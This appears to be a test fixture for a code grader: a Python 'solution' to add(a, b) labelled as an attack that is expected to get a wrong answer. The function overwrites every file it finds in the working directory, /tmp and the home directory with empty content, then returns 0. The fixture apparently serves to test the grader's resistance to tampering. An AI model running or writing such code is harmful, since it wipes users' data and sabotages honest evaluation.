# attack: rewrites every file it can find that looks like tests
# mode: function
# expect: wrong answer
import os

def add(a, b):
    for root in (".", "/tmp", os.path.expanduser("~")):
        for name in os.listdir(root):
            path = os.path.join(root, name)
            if os.path.isfile(path) and name != "solution.py":
                try:
                    open(path, "w").write("")
                except OSError:
                    pass
    return 0
